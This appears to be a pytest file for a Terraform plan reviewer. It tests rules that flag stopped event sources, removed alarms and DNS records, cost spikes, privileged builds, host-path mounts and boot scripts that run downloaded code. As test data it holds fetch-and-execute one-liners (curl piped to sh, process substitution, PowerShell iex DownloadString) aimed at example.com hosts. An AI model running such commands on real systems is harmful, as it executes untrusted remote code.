"""The rules about what runs, is served, and is paid for: each beside what looks like it and is harmless."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest

from tests.unit.test_review import resource, review
from tests.unit.test_rules_iam import worst

ALARM = {
    "alarm_name": "errors",
    "alarm_actions": ["arn:pager"],
    "actions_enabled": True,
    "dimensions": {"F": "f"},
}
RECORD = {"zone_id": "Z1", "name": "api", "fqdn": "api.example.com", "type": "A", "records": ["203.0.113.1"]}
MAPPING = {"function_arn": "arn:f", "event_source_arn": "arn:q", "enabled": True}
LB = {"arn": "arn:lb", "dns_name": "Web.elb.amazonaws.com"}
SITE = {"enabled": True, "aliases": ["www.example.com"]}


def build(before: bool | None, buildspec: str = "", **more: Any) -> dict[str, Any]:
    def side(on: bool) -> dict[str, Any]:
        return {"environment": [{"privileged_mode": on}], "source": [{"buildspec": buildspec}], **more}

    return resource("aws_codebuild_project", None if before is None else side(before), side(True))


def boot(script: str, before: str = "") -> dict[str, Any]:
    sides = ({"user_data": base64.b64encode(text.encode()).decode()} for text in (before, script))
    return resource("aws_launch_template", *sides)


def job(path: str) -> dict[str, Any]:
    volumes = json.dumps({"volumes": [{"name": "v", "host": {"sourcePath": path}}]})
    return resource("aws_batch_job_definition", None, {"container_properties": volumes})


def pod(path: str) -> dict[str, Any]:
    spec = [{"template": [{"spec": [{"volume": [{"host_path": [{"path": path}]}]}]}]}]
    return resource("kubernetes_daemon_set_v1", None, {"spec": spec})


FOUND: dict[str, tuple[str, str, list[dict[str, Any]]]] = {
    "a pipe is stopped": (
        "AV004",
        "low",
        [resource("aws_pipes_pipe", {"desired_state": "RUNNING"}, {"desired_state": "STOPPED"})],
    ),
    "a source is not read": (
        "AV004",
        "low",
        [resource("aws_lambda_event_source_mapping", MAPPING, {**MAPPING, "enabled": False})],
    ),
    "a source's mapping is removed": (
        "AV004",
        "low",
        [resource("aws_lambda_event_source_mapping", MAPPING, None)],
    ),
    "an alarm is removed": ("AV004", "low", [resource("aws_cloudwatch_metric_alarm", ALARM, None)]),
    "an alarm's name is made anew beside it": (
        "AV004",
        "low",
        [
            resource("aws_cloudwatch_metric_alarm", ALARM, None, address="aws_cloudwatch_metric_alarm.a"),
            resource("aws_cloudwatch_metric_alarm", None, ALARM, address="aws_cloudwatch_metric_alarm.b"),
        ],
    ),
    "a group stops launching": (
        "AV004",
        "low",
        [resource("aws_autoscaling_group", {"name": "g"}, {"name": "g", "suspended_processes": ["Launch"]})],
    ),
    "a record is removed": ("AV005", "medium", [resource("aws_route53_record", RECORD, None)]),
    "a record's other kind stays": (
        "AV005",
        "medium",
        [
            resource("aws_route53_record", {**RECORD, "type": "MX"}, None, address="r.a"),
            resource("aws_route53_record", RECORD, RECORD, address="r.b"),
        ],
    ),
    "a load balancer is removed": ("AV005", "low", [resource("aws_lb", LB, None)]),
    "an alias is dropped": (
        "AV005",
        "medium",
        [resource("aws_cloudfront_distribution", SITE, {**SITE, "aliases": []})],
    ),
    "functions at once": (
        "AV002",
        "low",
        [
            resource(
                "aws_lambda_function",
                {"reserved_concurrent_executions": 200},
                {"reserved_concurrent_executions": 5},
            )
        ],
    ),
    "shards": ("CO002", "medium", [resource("aws_kinesis_stream", {"shard_count": 2}, {"shard_count": 200})]),
    "a hundred tasks": ("CO002", "low", [resource("aws_ecs_service", None, {"desired_count": 100})]),
    "a job has the engine": ("EX004", "medium", [job("/var/run/docker.sock")]),
    "a pod has the host": ("EX004", "medium", [pod("/")]),
    "a pod sees processes": ("EX004", "low", [pod("/proc/1")]),
    "people can look into a service": (
        "EX004",
        "low",
        [resource("aws_ecs_service", {"enable_execute_command": False}, {"enable_execute_command": True})],
    ),
    "a build is privileged now": ("EX004", "low", [build(False, "docker build .\n")]),
    "a build is privileged for nothing": ("EX004", "low", [build(None, "make\n")]),
    "process substitution": ("EX007", "low", [boot("bash <(curl -s https://get.example.com/a)")]),
    "another script": (
        "EX007",
        "low",
        [boot("curl https://b.example.com/x | sh", before="curl https://a.example.com/x | sh")],
    ),
    "PowerShell": (
        "EX007",
        "low",
        [boot("iex ((New-Object Net.WebClient).DownloadString('https://a.example.com/x.ps1'))")],
    ),
}

QUIET: dict[str, list[dict[str, Any]]] = {
    "a target goes with its function": [
        resource("aws_cloudwatch_event_target", {"rule": "r", "arn": "arn:f"}, None),
        resource("aws_lambda_function", {"arn": "arn:f"}, None),
    ],
    "a rule that was off stays off": [
        resource("aws_cloudwatch_event_rule", {"state": "DISABLED"}, {"state": "DISABLED", "tags": {}})
    ],
    "a new rule is off": [resource("aws_cloudwatch_event_rule", None, {"state": "DISABLED"})],
    "what is unknown": [
        resource("aws_cloudwatch_event_rule", {"state": "ENABLED"}, {}, unknown={"state": True})
    ],
    "an alarm goes with what it watches": [
        resource("aws_cloudwatch_metric_alarm", ALARM, None),
        resource("aws_iam_group", {"name": "f"}, None),
    ],
    "a silent alarm is removed": [
        resource("aws_cloudwatch_metric_alarm", {**ALARM, "actions_enabled": False}, None)
    ],
    "a mapping goes with its function": [
        resource("aws_lambda_event_source_mapping", MAPPING, None),
        resource("aws_lambda_function", {"arn": "arn:f"}, None),
    ],
    "a record at another address": [
        resource("aws_route53_record", RECORD, None, address="r.a"),
        resource("aws_route53_record", None, {**RECORD, "fqdn": None}, address="r.b"),
    ],
    "a record becomes an alias of a name in full": [
        resource("aws_route53_record", RECORD, None, address="r.a"),
        resource(
            "aws_route53_record",
            None,
            {"zone_id": "Z2", "name": "api.example.com.", "type": "CNAME"},
            address="r.b",
        ),
    ],
    "one of several weighted answers": [
        resource("aws_route53_record", {**RECORD, "set_identifier": "a"}, None, address="r.a"),
        resource("aws_route53_record", *2 * ({**RECORD, "set_identifier": "b"},), address="r.b"),
    ],
    "a certificate has its names in another order": [
        resource(
            "aws_acm_certificate",
            {"domain_name": "a.example", "subject_alternative_names": ["a.example", "b.example"]},
            {"domain_name": "a.example", "subject_alternative_names": ["b.example", "a.example"], "tags": {}},
        )
    ],
    "an alias that a star covers": [
        resource("aws_cloudfront_distribution", SITE, {**SITE, "aliases": ["*.example.com"]})
    ],
    "a table is paid by request": [
        resource(
            "aws_dynamodb_table",
            {"read_capacity": 50},
            {"read_capacity": 0, "billing_mode": "PAY_PER_REQUEST"},
        )
    ],
    "a few more": [resource("aws_autoscaling_group", {"max_size": 3}, {"max_size": 9})],
    "a cache without snapshots": [
        resource("aws_elasticache_replication_group", None, {"snapshot_retention_limit": 0})
    ],
    "a replica without backups": [
        resource("aws_db_instance", None, {"replicate_source_db": "a", "backup_retention_period": 0})
    ],
    "a job has a folder of its own": [job("/data/jobs")],
    "a build of images": [build(None, "docker build .\n")],
    "a build whose commands are elsewhere": [build(None, "buildspec.yml")],
    "a service that people can look into is new": [
        resource("aws_ecs_service", None, {"enable_execute_command": True})
    ],
    "what is fetched is kept": [boot("curl -o /tmp/a https://a.example.com/a; sh /opt/start")],
    "what was run already": [
        boot("curl https://a.example.com/x | sh\ndate", before="curl https://a.example.com/x | sh")
    ],
    "an answer is read": [boot("curl -s https://a.example.com/v | jq .version")],
}


@pytest.mark.parametrize("name", FOUND)
def test_what_stops_or_grows_is_found(name: str) -> None:
    rule, severity, changes = FOUND[name]
    assert worst(*changes).get(rule) == severity


@pytest.mark.parametrize("name", QUIET)
def test_what_runs_on_is_not(name: str) -> None:
    assert {rule: severity for rule, severity in worst(*QUIET[name]).items() if severity != "info"} == {}


def test_a_record_whose_target_ends_is_told_once() -> None:
    record = {**RECORD, "records": None, "alias": [{"name": "dualstack.web.elb.amazonaws.com."}]}
    found = review(resource("aws_route53_record", record, None), resource("aws_lb", LB, None))
    assert [finding.message for finding in found.findings] == [
        "the load balancer is gone, and so is its address"
    ]


def test_instances_of_one_resource_are_counted_together() -> None:
    made = [
        resource("aws_instance", None, {"instance_type": "p4d.24xlarge"}, address=f"aws_instance.a[{number}]")
        for number in range(3)
    ]
    found = [finding.message for finding in review(*made).findings if finding.id == "CO002"]
    assert found == ["p4d.24xlarge is of the largest and dearest there are (3 of them)"]


def test_an_address_is_shown_without_its_password() -> None:
    found = review(boot("curl https://app:hunter2hunter2@get.example.com/a?token=abcdefgh | sh")).findings
    messages = [finding.message for finding in found if finding.id == "EX007"]
    assert messages == ["it runs what it downloads: https://get.example.com"]
